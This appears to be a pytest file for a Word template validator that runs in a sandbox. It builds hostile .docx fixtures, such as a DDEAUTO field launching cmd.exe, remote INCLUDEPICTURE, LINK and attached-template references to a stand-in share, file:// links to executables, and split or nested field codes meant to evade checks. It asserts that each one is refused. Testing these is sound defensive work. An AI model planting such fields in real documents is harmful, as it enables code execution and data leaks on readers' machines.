"""A template of Word that would fetch, run or open something where its documents are opened."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from sample_documents import WHOLE

from rendering.documents.files import check_template, default_template, through
from rendering.documents.model import TemplateUnfit, Unfit
from sandbox.limits import Limits
from sandbox.runner import Sandbox

LIMITS = Limits(cpu=10)
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
TARGET = "//ailleurs.example/partage/x.docx"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
STRICT_LINK = "http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink"


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox() as opened:
        yield opened


def order(*pieces: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in pieces)


def field(*pieces: str) -> str:
    return f"<w:p>{BEGIN}{order(*pieces)}{SEPARATE}<w:r><w:t>x</w:t></w:r>{END}</w:p>"


def with_body(added: str) -> bytes:
    return with_part(
        "word/document.xml", lambda part: part.replace(b"<w:body>", b"<w:body>" + added.encode(), 1)
    )


def with_part(name: str, change: Callable[[bytes], bytes]) -> bytes:
    made = BytesIO()
    with ZipFile(BytesIO(default_template())) as parts, ZipFile(made, "w", ZIP_DEFLATED) as written:
        for one in parts.namelist():
            written.writestr(one, change(parts.read(one)) if one == name else parts.read(one))
        if name not in parts.namelist():
            written.writestr(name, change(b""))
    return made.getvalue()


def related(kind: str, target: str, *, is_external: bool = True) -> bytes:
    file = docx.Document(BytesIO(default_template()))
    made = BytesIO()
    file.part.relate_to(target, kind, is_external=is_external)
    file.save(made)
    return made.getvalue()


FOOT = "<w:ftr xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>{}</w:ftr>"
VML = '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" {}/></w:pict></w:r></w:p>'
HOSTILE: dict[str, Callable[[], bytes]] = {
    "DDEAUTO": lambda: with_body(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
    "DDE, cut": lambda: with_body(field("D", "D", "E c:\\\\x")),
    "in small letters": lambda: with_body(field(' ddeauto excel "x"')),
    "a picture": lambda: with_body(field(f' INCLUDEPICTURE "http:{TARGET}" ')),
    "a text": lambda: with_body(field(f' INCLUDETEXT "{TARGET}" ')),
    "a link to a table": lambda: with_body(field(f' LINK Excel.Sheet "{TARGET}" ')),
    "a document of reference": lambda: with_body(field(f' RD "{TARGET}" ')),
    "a database": lambda: with_body(field(' DATABASE \\d "x" ')),
    "a macro": lambda: with_body(field(" MACROBUTTON Lance x ")),
    "a link to a share": lambda: with_body(field(f' HYPERLINK "{TARGET}" ')),
    "a link to a file": lambda: with_body(field(' HYPERLINK "file:///c:/x.exe" ')),
    "without an end": lambda: with_body(f"<w:p>{BEGIN}{order('DDE x')}</w:p>"),
    "without a beginning": lambda: with_body(f"<w:p>{order('DDE x')}</w:p>"),
    "taken out": lambda: with_body(field("DDE x").replace("instrText", "delInstrText")),
    "simple": lambda: with_body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\x "/></w:p>'),
    "written by another": lambda: with_body(
        f"<w:p>{BEGIN}{BEGIN}{order('REF x')}{END}{order(' c:')}{END}</w:p>"
    ),
    "within the words of another": lambda: with_body(
        f"<w:p>{BEGIN}{order('PAGE')}{SEPARATE}{BEGIN}{order('DDE x')}{END}{END}</w:p>"
    ),
    "uncovered by a comment of ours": lambda: with_body(
        f"<w:p>{BEGIN}<w:r><w:t>{{#</w:t></w:r>{order('PAGE ')}"
        f"<w:r><w:t>#}}</w:t></w:r>{order('DDE x')}{END}</w:p>"
    ),
    "in a footer of capitals": lambda: with_part(
        "word/FOOTER9.XML", lambda _: FOOT.format(field("DDE x")).encode()
    ),
    "in a part of another ending": lambda: with_part(
        "word/media/x.png", lambda _: FOOT.format(field("DDE x")).encode()
    ),
    "another document": lambda: with_body('<w:altChunk xmlns:r="r" r:id="rId1"/>'),
    "a document within": lambda: with_part("word/embeddings/x.docx", lambda _: b"PK"),
    "a page within": lambda: with_part("word/afchunk.htm", lambda _: b"x"),
    "a program within": lambda: with_part("word/ACTIVEX/x.BIN", lambda _: b"x"),
    "a source of letters": lambda: with_part(
        "word/settings.xml", lambda part: part.replace(b"<w:zoom", b"<w:mailMerge/><w:zoom", 1)
    ),
    "an old picture": lambda: with_body(VML.format(f'src="http:{TARGET}"')),
    "a picture elsewhere": lambda: related(RELATIONSHIP_TYPE.IMAGE, f"http:{TARGET}"),
    "a template elsewhere": lambda: related(ATTACHED, f"http:{TARGET}"),
    "what ends as a link": lambda: related("http://ailleurs.example/hyperlink", f"http:{TARGET}"),
    "a link to a share, apart": lambda: related(RELATIONSHIP_TYPE.HYPERLINK, TARGET),
    "a link to a program": lambda: related(RELATIONSHIP_TYPE.HYPERLINK, "file:///c:/x.exe"),
}
HARMLESS: dict[str, Callable[[], bytes]] = {
    "ours": default_template,
    "a page": lambda: with_body(field(" PA", "GE ")),
    "a day": lambda: with_body(field(' DATE \\@ "d MMMM yyyy" ')),
    "a list of headings": lambda: with_body(
        f"<w:p>{BEGIN}{order(' TOC ')}{SEPARATE}{BEGIN}{order('PAGEREF _Toc1')}{END}{END}</w:p>"
    ),
    "a simple one": lambda: with_body('<w:p><w:fldSimple w:instr=" NUMPAGES \\* Arabic "/></w:p>'),
    "a link within": lambda: with_body(field(' HYPERLINK \\l "suite" ')),
    "a link to a site": lambda: with_body(field(' HYPERLINK "https://www.demande-logement-social.gouv.fr" ')),
    "a link apart": lambda: related(RELATIONSHIP_TYPE.HYPERLINK, "mailto:sne@exemple.fr"),
    "a link of the strict form": lambda: related(STRICT_LINK, "https://exemple.fr"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_as_it_is_sent_and_makes_no_document(sandbox: Sandbox, name: str) -> None:
    template = HOSTILE[name]()
    with pytest.raises(TemplateUnfit) as refused:
        sandbox.run(LIMITS, check_template, template)
    assert refused.value.reason is Unfit.LINKED
    with pytest.raises(TemplateUnfit):
        through(template, lambda work, *given: sandbox.run(LIMITS, work, *given))(WHOLE, {})


@pytest.mark.parametrize("name", HARMLESS)
def test_what_says_something_of_the_file_itself_is_taken(sandbox: Sandbox, name: str) -> None:
    sandbox.run(LIMITS, check_template, HARMLESS[name]())
